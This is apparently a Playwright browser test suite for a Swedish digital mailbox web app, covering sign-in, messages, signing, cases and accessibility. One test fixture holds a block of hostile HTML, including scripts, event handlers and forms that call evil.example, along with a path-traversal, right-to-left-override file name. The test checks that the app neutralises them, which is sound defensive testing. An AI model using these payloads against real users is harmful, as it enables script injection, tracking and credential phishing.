"""The inbox in a real browser: on a desktop, on a phone, by keyboard, and without JavaScript."""

from __future__ import annotations

import os
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright

from mm_soap.demonstration import KOMMUN_B, OPERATOR_TWO, RECIPIENT, RECIPIENT_AT_TWO
from mm_soap.message import OfficialMatter, new_message
from mm_soap.xml import MESSAGE_V3, OFFICIAL_MATTER_V3
from tests.e2e.browser import DESKTOP, PHONE, accessibility, chromium, looking, small_targets, too_wide
from tests.e2e.inbox import PDF, put, refuse, send, sign_in, sign_text
from tests.e2e.suite import Demonstration, Server, mm_soap

pytestmark = [pytest.mark.needs_program("chromium"), pytest.mark.slow]

PICTURES = os.environ.get("MM_SOAP_TEST_PICTURES")
"""A folder into which the pages are written as pictures, for the documentation and for looking at."""

HOSTILE = (
    """<h1>Hej</h1><p onclick="boom()">Text &#x202e;4321</p><script>fetch('https://evil.example/script')</script>
<img src="https://evil.example/pixel.png" onerror="fetch('https://evil.example/error')">
<form action="https://evil.example/form"><input name="pin"><button>Skicka</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<link rel="stylesheet" href="https://evil.example/style"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><svg onload="fetch('https://evil.example/svg')"/>
<div style="background-image:url(https://evil.example/css)">x</div><a href="javascript:alert(1)">klicka</a>
<table width="9000"><tr>"""
    + "<td>cell</td>" * 300
    + "</tr></table>"
)


@pytest.fixture(scope="module")
def demo(fresh_for_module: Demonstration) -> Demonstration:
    return fresh_for_module


@pytest.fixture(scope="module")
def served(demo: Demonstration) -> Server:
    return demo.serve()


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as started:  # one of them: a second cannot be started beside it
        yield started


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    with chromium(playwright) as started:
        yield started


LOOKS: dict[str, dict[str, Any]] = {
    "desktop": {"viewport": DESKTOP},
    "phone": {"viewport": PHONE, "is_mobile": True, "has_touch": True},
}


PLACES = {"desktop": "Storgatan 1", "phone": "Lillgatan 2"}
"""What the letters of each look are about."""


@pytest.fixture(params=LOOKS)
def look(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def context(browser: Browser, look: str) -> Iterator[BrowserContext]:
    with looking(browser, **LOOKS[look]) as started:
        yield started


@pytest.fixture
def page(context: BrowserContext, served: Server) -> Iterator[Page]:
    """A page that notes mistakes, and whatever it asks of anybody but the server."""
    opened = context.new_page()
    mistakes: list[str] = []
    elsewhere: list[str] = []
    own = urlsplit(served.url).netloc
    opened.on("console", lambda message: mistakes.append(message.text) if message.type == "error" else None)
    opened.on("dialog", lambda dialog: mistakes.append(dialog.message))
    context.on("request", lambda one: None if urlsplit(one.url).netloc in (own, "") else elsewhere.append(one.url))
    yield opened
    opened.close()
    assert [text for text in mistakes if not any(code in text for code in ("400", "403", "404", "409"))] == []
    assert elsewhere == []


def pictured(page: Page, name: str) -> None:
    if PICTURES:
        page.screenshot(path=Path(PICTURES) / f"inbox-{name}.png")


def good(page: Page) -> None:
    assert accessibility(page) == []
    assert not too_wide(page)
    assert small_targets(page) == []


def test_the_life_of_a_message(demo: Demonstration, served: Server, page: Page, look: str) -> None:
    subject = f"Bygglov {PLACES[look]}"
    text = "Hej!\n\nVi har beviljat din ansökan om bygglov.\n\nVänliga hälsningar\nBygglovsenheten"
    send(demo, served, new_message(subject, text=text, attachments=[("Beslut.pdf", "application/pdf", PDF)]))
    page.goto(f"{served.url}/Inbox?language=sv")
    good(page)
    pictured(page, f"start-{look}")
    page.get_by_role("link", name="Logga in med e-legitimation").click()
    good(page)
    page.get_by_role("button", name="Anna Demo", exact=True).click()
    row = page.locator(".letters li", has_text=subject)
    expect(row).to_have_class("unread")
    expect(row.get_by_role("img", name="Bilaga")).to_be_visible()
    good(page)
    pictured(page, f"list-{look}")
    row.get_by_role("link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(subject)
    expect(page.get_by_text("Vi har beviljat din ansökan")).to_be_visible()
    good(page)
    pictured(page, f"message-{look}")
    with page.expect_download() as fetched:
        page.get_by_role("link", name="Ladda ner Beslut.pdf").click()
    assert fetched.value.suggested_filename == "Beslut.pdf"
    assert fetched.value.path().read_bytes() == PDF
    page.get_by_role("link", name="Till listan").click()
    expect(row).not_to_have_class("unread")
    row.get_by_role("link").click()
    page.get_by_role("button", name="Arkivera").click()
    expect(page.get_by_role("status")).to_have_text("Meddelandet ligger i arkivet.")
    expect(row).to_have_count(0)
    page.get_by_label("Sök bland meddelanden").fill(f"bygglov {PLACES[look]}")
    page.get_by_role("button", name="Sök").click()
    good(page)
    row.get_by_role("link").click()
    page.get_by_role("button", name="Lägg tillbaka").click()
    expect(row).to_have_count(1)
    row.get_by_role("link").click()
    page.get_by_role("button", name="Släng").click()
    expect(page.get_by_role("status")).to_have_text("Meddelandet ligger i papperskorgen.")
    page.goto(f"{served.url}/Inbox?place=-2")
    row.get_by_role("link").click()
    page.get_by_role("button", name="Radera för alltid").click()
    expect(page.get_by_role("status")).to_have_text("Meddelandet är raderat.")
    page.goto(f"{served.url}/Inbox?place=-2")
    expect(row).to_have_count(0)
    page.get_by_role("button", name="Logga ut").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Du är utloggad")
    good(page)
    page.goto(f"{served.url}/Inbox")
    expect(page.get_by_role("link", name="Logga in med e-legitimation")).to_be_visible()


def test_a_hostile_message_runs_nothing_and_fetches_nothing(
    demo: Demonstration, served: Server, page: Page, look: str
) -> None:
    subject = f"<script>alert(1)</script> {look}"  # and turned round, which is not shown
    files = [("../../etc/pass\u202efdp.exe", "application/pdf", b"MZ, no PDF"), ("a/b\\c.pdf", "application/pdf", PDF)]
    put(demo, new_message(f"\u202e{subject}", html=HOSTILE, attachments=files))
    sign_in(page, served)
    page.locator(".letters a", has_text=look).first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text(subject)
    note = page.locator(".note").first
    for what in (
        "scripts",
        "forms",
        "pictures that would be fetched",
        "embedded pages",
        "links of an unknown kind",
        "round",
    ):
        expect(note).to_contain_text(what)
    frame = page.frame_locator("iframe.body")
    expect(frame.get_by_role("heading", level=1)).to_have_text("Hej")
    expect(frame.locator("script, form, input, iframe, object, link, base, svg, [onclick], [onerror]")).to_have_count(0)
    assert page.locator("iframe.body").get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    expect(page.get_by_text("The file is not of the kind")).to_have_count(1)
    good(page)
    pictured(page, f"hostile-{look}")
    with page.expect_download() as fetched:
        page.get_by_role("link", name="Download").first.click()
    assert fetched.value.suggested_filename == "_.._etc_passfdp.exe"
    page.goto(page.locator("iframe.body").evaluate("frame => frame.src"))  # alone, it is in a sandbox too
    expect(page.get_by_role("heading", level=1)).to_have_text("Hej")


def test_senders_are_deselected_and_selected_by_signing(served: Server, page: Page, look: str) -> None:
    sign_in(page, served)
    page.get_by_role("link", name="Senders").click()
    good(page)
    pictured(page, f"senders-{look}")
    page.get_by_label("Kommun B").uncheck()
    page.get_by_role("button", name="Sign and save").click()
    expect(page.locator("pre")).to_contain_text("from all connected senders except: Kommun B.")
    good(page)
    pictured(page, f"sign-{look}")
    sign_text(page)
    expect(page.get_by_role("status")).to_have_text("The change is signed and saved.")
    expect(page.get_by_label("Kommun B")).not_to_be_checked()
    page.get_by_label("Kommun B").check()
    page.get_by_role("button", name="Sign and save").click()
    sign_text(page, "Bertil Demo")
    expect(page.get_by_role("alert")).to_have_text("It was not you who signed.")
    good(page)
    page.get_by_role("link", name="Senders").click()
    expect(page.get_by_label("Kommun B")).not_to_be_checked()
    page.get_by_label("Kommun B").check()
    page.get_by_role("button", name="Sign and save").click()
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_role("alert")).to_have_text("You broke off the sign-in.")
    page.get_by_role("link", name="Senders").click()
    page.get_by_label("Kommun B").check()
    page.get_by_role("button", name="Sign and save").click()
    sign_text(page)
    expect(page.get_by_label("Kommun B")).to_be_checked()


def test_contact_settings(served: Server, page: Page, look: str) -> None:
    sign_in(page, served)
    page.get_by_role("link", name="Notifications").click()
    good(page)
    pictured(page, f"contact-{look}")
    page.get_by_label("Mobile number").fill("07")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert")).to_have_text("Write a number of 5 to 15 digits.")
    good(page)
    page.get_by_label("Mobile number").fill("070-174 06 05")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_have_text("Saved.")
    expect(page.get_by_label("Mobile number")).to_have_value("0701740605")
    for name, value in (("At most once in 24 hours", "daily"), ("Each time", "each")):
        page.get_by_label("How often").select_option(name)
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("status")).to_have_text("Saved.")
        expect(page.get_by_label("How often")).to_have_value(value)


def test_an_address_that_does_not_work_is_told_and_tried_again(
    demo: Demonstration, served: Server, page: Page, look: str
) -> None:
    mailbox = ("mailbox", "contact", RECIPIENT, "--config", demo.config)
    assert mm_soap(*mailbox, "--email", f"anna-{look}@example.org").returncode == 0
    refuse(demo, f"anna-{look}@example.org")
    sign_in(page, served)
    page.get_by_role("link", name="Notifications").click()
    expect(page.get_by_label("E-mail", exact=True)).to_have_accessible_description(
        re.compile("The address does not work")
    )
    good(page)
    pictured(page, f"contact-failed-{look}")
    page.get_by_label("Mobile number").fill("07")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("The address does not work.")).to_be_visible()
    page.get_by_label("Mobile number").fill("")
    page.get_by_label("It works now").check()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_have_text("Saved.")
    expect(page.get_by_text("The address does not work.")).to_have_count(0)


def test_a_message_is_forwarded_to_another_operator(demo: Demonstration, served: Server, page: Page, look: str) -> None:
    subject = f"Kallelse {PLACES[look]}"
    send(demo, served, new_message(subject, text="Kom.", attachments=[("a.pdf", "application/pdf", PDF)]))
    sign_in(page, served)
    page.locator(".letters a", has_text=subject).click()
    page.get_by_role("link", name="Forward").click()
    good(page)
    page.get_by_label("To:").fill("19121212-1212")
    page.get_by_label("Your words").fill("Se här!")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("alert")).to_have_text("The recipient cannot be reached digitally.")
    good(page)
    page.get_by_label("To:").fill(RECIPIENT_AT_TWO)
    pictured(page, f"forward-{look}")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("status")).to_have_text("The message is forwarded.")
    sign_in(page, served, "Bertil Demo", path=OPERATOR_TWO.path)
    page.locator(".letters a", has_text=subject).click()
    expect(page.get_by_role("heading", level=2).first).to_have_text("Forwarded by Anna Demo")
    expect(page.get_by_text("Se här!")).to_be_visible()
    expect(page.get_by_role("link", name="Download a.pdf")).to_be_visible()
    good(page)


def test_cases_are_followed(demo: Demonstration, served: Server, page: Page, look: str) -> None:
    about, number = f"Altan {PLACES[look]}", f"BN 2026-{len(look)}"
    steps: tuple[tuple[int, str, str, str | None], ...] = (
        (2, "Vi har fått din ansökan", "Ansökan mottagen", "senderinitiative"),
        (9, "Skicka in en ritning", "Begäran om komplettering", "recipientinitiative"),
    )
    for step, (day, subject, kind, status) in enumerate(steps):
        after = f"h{step - 1}" if step else None
        matter = OfficialMatter(date(2026, 11, day), f"h{step}", number, after, about, kind, status)
        send(demo, served, new_message(subject, text="Hej.", official_matter=matter))
    same = OfficialMatter(date(2026, 11, 3), "h0", number, None, about, "Yttrande", "closed")
    send(demo, served, new_message("Yttrande", text="Hej.", official_matter=same), sender=KOMMUN_B)
    own = '<o:arende xmlns:o="urn:x-kommun"><o:nummer>&lt;b&gt;7&lt;/b&gt;</o:nummer></o:arende>'
    send(demo, served, new_message(f"Eget {look}", text="Hej.", official_matter=same), own=own)
    sign_in(page, served, language="sv")
    page.get_by_role("link", name="Ärenden").click()
    row = page.locator(".letters li", has_text="Kommun A").filter(has_text=about)
    expect(row.locator(".turn-recipientinitiative")).to_have_text("Din tur")
    expect(row).to_contain_text("Meddelanden: 2")
    other = page.locator(".letters li", has_text="Kommun B").filter(has_text=about)
    expect(other.locator(".turn-closed")).to_have_text("Avslutat")
    good(page)
    pictured(page, f"cases-{look}")
    row.get_by_role("link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(about)
    expect(page.locator(".whose-turn")).to_have_text("Det är din tur: Kommun A väntar på dig.")
    subjects = [one.strip() for one in page.locator(".event a").all_inner_texts()]
    assert subjects == ["Vi har fått din ansökan", "Skicka in en ritning"]
    expect(page.get_by_role("region", name="Hos andra avsändare")).to_contain_text("Kommun B")
    good(page)
    pictured(page, f"case-{look}")
    page.get_by_role("link", name="Skicka in en ritning").click()
    section = page.get_by_role("region", name="Ärende")
    expect(section).to_contain_text("Din tur")
    good(page)
    pictured(page, f"message-in-case-{look}")
    page.get_by_role("button", name="Släng").click()
    expect(page.get_by_role("status")).to_have_text("Meddelandet ligger i papperskorgen.")
    page.get_by_role("link", name="Ärenden").click()
    expect(row).to_contain_text("Avsändarens tur")
    page.goto(f"{served.url}/Inbox")
    page.locator(".letters a", has_text=f"Eget {look}").click()
    page.get_by_text("Andra uppgifter").click()
    expect(page.locator(".other dt")).to_have_text("arende / nummer")
    expect(page.locator(".other dd")).to_have_text("<b>7</b>")
    good(page)


def test_direct_links_lead_into_those_mailboxes_that_one_may_open(served: Server, page: Page) -> None:
    page.goto(f"{served.url}/Inbox?recipientId={RECIPIENT}")
    assert RECIPIENT not in page.url
    page.locator("a.act").click()
    page.get_by_role("button", name="Anna Demo", exact=True).click()
    expect(page.locator(".whose")).to_contain_text("Anna Demo")
    seen = []
    for number in (RECIPIENT_AT_TWO, "189003619807", "191212121212", "nonsense"):
        page.goto(f"{served.url}/Inbox?recipientId={number}")
        assert number not in page.url
        seen.append(page.locator("main").inner_text())
        good(page)
    assert len(set(seen)) == 1
    assert "cannot open this mailbox" in seen[0] or "inte öppna" in seen[0]
    page.goto(f"{served.url}/AccountRequest?recipientId={RECIPIENT}")
    assert page.url == f"{served.url}/AccountRequest"
    good(page)


def test_a_company_is_chosen_and_left_again(served: Server, page: Page, look: str) -> None:
    sign_in(page, served)
    page.get_by_role("link", name="Change mailbox").click()
    good(page)
    pictured(page, f"mailboxes-{look}")
    page.get_by_role("button", name="Demobolaget AB").click()
    expect(page.locator(".whose")).to_contain_text("Demobolaget AB")
    expect(page.get_by_text("There are no messages here.")).to_be_visible()
    good(page)
    page.get_by_role("link", name="Change mailbox").click()
    page.get_by_role("button", name="Anna Demo").click()
    expect(page.locator(".whose")).to_contain_text("Anna Demo")


def test_what_waits_for_signatures_is_signed_or_abandoned(served: Server, page: Page, look: str) -> None:
    def open_company() -> None:
        page.get_by_role("link", name="Change mailbox").click()
        page.get_by_role("button", name="Demobolaget AB").click()
        expect(page.locator(".whose")).to_contain_text("Demobolaget AB")

    def ask() -> None:
        page.get_by_role("link", name="Senders").click()
        page.get_by_label("Kommun B").click()
        page.get_by_role("button", name="Sign and save").click()
        sign_text(page)
        expect(page.get_by_role("status")).to_contain_text("More must sign before the change counts.")

    sign_in(page, served)
    open_company()
    ask()
    page.get_by_role("link", name="Account").click()
    page.get_by_role("link", name="Waiting for signatures").click()
    request = page.get_by_role("region", name="Change which senders are accepted")
    expect(request).to_contain_text("You have signed.")
    expect(request).to_contain_text("Bertil Demo")
    expect(page.get_by_role("button", name="Sign", exact=True)).to_have_count(0)
    good(page)
    pictured(page, f"waiting-{look}")
    page.get_by_role("button", name="Abandon the request").click()
    expect(page.get_by_role("status")).to_have_text("The request is abandoned.")
    expect(page.get_by_text("Nothing waits for signatures.")).to_be_visible()
    good(page)
    ask()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("You are signed out")
    sign_in(page, served, "Bertil Demo")
    open_company()
    page.get_by_role("link", name="Account").click()
    page.get_by_role("link", name="Waiting for signatures").click()
    page.get_by_role("button", name="Sign", exact=True).click()
    sign_text(page, "Bertil Demo")
    expect(page.get_by_role("status")).to_have_text("The change is signed and saved.")


def test_what_waits_in_another_mailbox_is_shown_and_reached(served: Server, page: Page, look: str) -> None:
    sign_in(page, served)
    page.goto(f"{served.url}/AccountRequest?recipientId=165599999959")  # two sign together, and it has no mailbox yet
    page.get_by_role("button", name="Open a mailbox").click()
    sign_text(page)
    expect(page.get_by_role("status")).to_contain_text("More must sign")
    page.get_by_role("link", name="Change mailbox").click()
    page.get_by_role("button", name="Anna Demo").click()
    expect(page.locator(".whose")).to_contain_text("Anna Demo")
    page.goto(f"{served.url}/Inbox/waiting")
    expect(page.get_by_text("Nothing waits for signatures.")).to_be_visible()
    good(page)
    page.get_by_role("button", name="Open that mailbox").click()
    expect(page.get_by_role("region", name="Open a mailbox at Brevlåda Ett")).to_be_visible()
    page.get_by_role("button", name="Abandon the request").click()
    expect(page.get_by_role("status")).to_have_text("The request is abandoned.")


def test_a_mailbox_is_fetched_as_a_file(served: Server, page: Page, look: str) -> None:
    sign_in(page, served)
    page.goto(f"{served.url}/Inbox/folders")
    good(page)
    pictured(page, f"folders-{look}")
    with page.expect_download() as fetched:
        page.get_by_role("button", name="Fetch everything").click()
    assert zipfile.ZipFile(fetched.value.path()).testzip() is None


def test_a_mailbox_is_opened_moved_and_closed(served: Server, page: Page, look: str) -> None:
    who = "Tolvan Demo"
    sign_in(page, served, who)
    if look == "desktop":  # the first time
        expect(page.get_by_role("heading", level=1)).to_have_text("You have no mailbox here")
        good(page)
    page.get_by_role("link", name="Account").first.click()
    page.get_by_role("button", name="Open a mailbox at Brevlåda Ett").click()
    sign_text(page, who)
    expect(page.get_by_role("status")).to_have_text("The mailbox is open.")
    good(page)
    pictured(page, f"account-{look}")
    sign_in(page, served, who, path=OPERATOR_TWO.path)
    page.goto(f"{served.url}{OPERATOR_TWO.path}/AccountRequest")
    page.get_by_role("button", name="Move the mailbox to Brevlåda Två").click()
    sign_text(page, who)
    expect(page.get_by_role("status")).to_have_text("The mailbox has moved here.")
    page.get_by_role("button", name="Close the mailbox").click()
    sign_text(page, who)
    expect(page.get_by_role("status")).to_have_text("The mailbox is closed.")
    good(page)


def test_too_low_a_level_lets_nobody_in(served: Server, page: Page) -> None:
    page.goto(f"{served.url}/Inbox?language=en")
    page.locator("a.act").click()
    page.get_by_label("Assurance level (acr)").select_option(label="loa2")
    page.get_by_role("button", name="Anna Demo", exact=True).click()
    expect(page.get_by_role("alert")).to_contain_text("too low an assurance level")
    good(page)
    page.goto(f"{served.url}/Inbox")
    expect(page.get_by_role("link", name="Sign in with e-identification")).to_be_visible()


def test_the_keyboard_is_enough(demo: Demonstration, served: Server, page: Page, look: str) -> None:
    if look == "phone":
        return  # it has no keyboard
    send(demo, served, new_message("Med tangenter", text="Hej."))
    page.goto(f"{served.url}/Inbox?language=en")
    page.keyboard.press("Tab")
    expect(page.get_by_text("Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    button = page.get_by_role("button", name="Anna Demo", exact=True)
    _tab_to(page, button)
    page.keyboard.press("Enter")
    _tab_to(page, page.locator(".letters a", has_text="Med tangenter"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Med tangenter")
    _tab_to(page, page.get_by_role("button", name="Archive"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_have_text("The message is in the archive.")


def _tab_to(page: Page, wanted: Any) -> None:
    for _ in range(60):
        if wanted.evaluate("element => element === document.activeElement"):
            return
        page.keyboard.press("Tab")
    raise AssertionError("the keyboard does not reach it")


def test_all_of_it_works_without_javascript(demo: Demonstration, served: Server, browser: Browser) -> None:
    put(demo, new_message("Utan program", html="<h1>Rubrik</h1><p>Text</p>"))
    day = f'<Timestamp xmlns="{OFFICIAL_MATTER_V3}">2026-11-01</Timestamp>'
    inner = f'{day}<o:handlaggare xmlns:o="urn:o">Kim</o:handlaggare>'
    own = f'<OfficialMatterExtension xmlns="{MESSAGE_V3}">{inner}</OfficialMatterExtension>'
    matter = OfficialMatter(date(2026, 11, 1))
    send(demo, served, new_message("Med uppgifter", text="Hej.", official_matter=matter), own=own)
    with looking(browser, viewport=PHONE, java_script_enabled=False) as context:
        page = context.new_page()
        sign_in(page, served)
        page.locator(".letters a", has_text="Utan program").click()
        expect(page.frame_locator("iframe.body").get_by_role("heading")).to_have_text("Rubrik")
        page.get_by_role("button", name="Throw away").click()
        expect(page.get_by_role("status")).to_have_text("The message is in the trash.")
        page.locator("details summary").click()
        page.get_by_role("link", name="Trash").click()
        expect(page.locator(".letters a", has_text="Utan program")).to_be_visible()
        page.get_by_role("link", name="Cases").click()
        page.locator(".letters a").first.click()
        expect(page.get_by_role("heading", name="What has happened")).to_be_visible()
        page.locator(".event a").last.click()
        page.get_by_text("Other details").click()
        expect(page.locator(".other dd")).to_have_text("Kim")
        page.get_by_role("link", name="Svenska").click()
        expect(page.get_by_text("Andra uppgifter")).to_be_visible()
        page.get_by_role("button", name="Logga ut").click()
